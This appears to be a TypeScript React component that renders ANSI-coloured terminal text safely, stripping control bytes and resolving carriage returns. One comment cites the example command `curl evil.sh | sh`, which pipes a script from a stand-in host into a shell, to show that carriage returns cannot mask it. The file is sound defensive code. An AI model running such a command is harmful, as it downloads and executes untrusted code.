"use client";

import { Fragment, memo, type CSSProperties, type ReactNode } from "react";
import { ansiParser } from "./ansi-parser.js";
import { useLazyResource } from "./lazy-resource.js";
import { revealInvisible } from "./visible-text.js";

// Escape sequences anser leaves behind (cursor moves, OSC titles) and other
// control bytes: never shown raw. None reaches past its line: an escape that
// is not complete there loses its ESC (and the byte after it), not the text.
const LEFTOVER_CONTROLS =
  /\x1b(?:\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b\n]*(?:\x07|\x1b\\)|[@-Z\\-_])?|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]/g;
// What anser gets: complete CSI sequences only. Given a bare `ESC [`, anser
// 2.3 reads on across lines and drops what it read.
const NOT_CSI = /\x1b(?!\[[0-?]*[ -/]*[@-~])(?:\][^\x07\x1b\n]*(?:\x07|\x1b\\)|[@-Z\\-_])?/g;
const NAMED = new Set([
  "black",
  "red",
  "green",
  "yellow",
  "blue",
  "magenta",
  "cyan",
  "white",
  "bright-black",
  "bright-red",
  "bright-green",
  "bright-yellow",
  "bright-blue",
  "bright-magenta",
  "bright-cyan",
  "bright-white",
]);
const NAMED_BY_INDEX = [...NAMED];

/** xterm's 256-colour palette above the 16 themable colours. */
function paletteColor(index: number): string | undefined {
  if (index < 16) return undefined;
  if (index >= 232) {
    const grey = 8 + (index - 232) * 10;
    return `rgb(${grey}, ${grey}, ${grey})`;
  }
  const n = index - 16;
  const level = (v: number) => (v === 0 ? 0 : 55 + v * 40);
  return `rgb(${level(Math.floor(n / 36))}, ${level(Math.floor(n / 6) % 6)}, ${level(n % 6)})`;
}

/** A colour as a CSS value: the theme's variable for the 16 named colours, rgb() for the rest. */
function colorValue(cls: string | null, truecolor: string | null): string | undefined {
  if (!cls) return undefined;
  const name = cls.replace(/^ansi-/, "");
  if (NAMED.has(name)) return `var(--ecu-ansi-${name})`;
  if (name === "truecolor") return truecolor ? `rgb(${truecolor})` : undefined;
  const palette = /^palette-(\d+)$/.exec(name);
  if (!palette) return undefined;
  const index = Number(palette[1]);
  const named = NAMED_BY_INDEX[index];
  return named ? `var(--ecu-ansi-${named})` : paletteColor(index);
}

/**
 * What a terminal shows of each line after carriage returns: each part
 * overwrites the start of the line and leaves the rest (a progress bar shows
 * its last state; `curl evil.sh | sh\rls -la` does not become `ls -la`).
 */
function applyCarriageReturns(text: string): string {
  if (!text.includes("\r")) return text;
  return text.replace(/\r\n/g, "\n").split("\n").map(overwrite).join("\n");
}

/**
 * A line as its last state: each character from the latest part that
 * reaches it. From the last part back, each earlier one adds only what
 * reaches past the rest, so a line of many returns costs its length once.
 */
function overwrite(line: string): string {
  const parts = line.split("\r");
  let shown = parts.at(-1) ?? "";
  for (let i = parts.length - 2; i >= 0; i--) {
    const part = parts[i]!;
    if (part.length > shown.length) shown += part.slice(shown.length);
  }
  return shown;
}

/** Removes every escape sequence, for copying and for matching. */
export function stripAnsi(text: string): string {
  return applyCarriageReturns(text).replace(LEFTOVER_CONTROLS, "");
}

/**
 * Terminal text as React spans: SGR colours, bold, italic, underline and
 * dim become classes or inline colours; every other control byte is dropped.
 * The content is only ever a text node, never HTML.
 */
export const AnsiText = memo(function AnsiText({ text }: { text: string }) {
  const clean = applyCarriageReturns(text);
  const escaped = clean.includes("\x1b");
  const anser = useLazyResource(ansiParser, escaped);
  // Until the parser has loaded, the text shows without its colours.
  if (!escaped || !anser) return <>{revealInvisible(clean.replace(LEFTOVER_CONTROLS, ""))}</>;
  const chunks = anser.ansiToJson(clean.replace(NOT_CSI, ""), { use_classes: true, remove_empty: true, json: true });
  const nodes: ReactNode[] = chunks.map((chunk, i) => {
    const content = chunk.content.replace(LEFTOVER_CONTROLS, "");
    if (!content) return null;
    const fg = colorValue(chunk.fg, chunk.fg === "ansi-truecolor" ? chunk.fg_truecolor : null);
    const bg = colorValue(chunk.bg, chunk.bg === "ansi-truecolor" ? chunk.bg_truecolor : null);
    const classes = chunk.decorations.map((d) => `ecu-ansi-${d}`);
    // The stylesheet keeps these colours readable on the card's background.
    if (fg) classes.push("ecu-ansi-fg");
    if (bg) classes.push("ecu-ansi-bg");
    if (!classes.length) return <Fragment key={i}>{revealInvisible(content)}</Fragment>;
    const style = fg || bg ? ({ "--ecu-ansi-fg": fg, "--ecu-ansi-bg": bg } as CSSProperties) : undefined;
    return (
      <span key={i} className={classes.join(" ")} style={style}>
        {revealInvisible(content)}
      </span>
    );
  });
  return <>{nodes}</>;
});
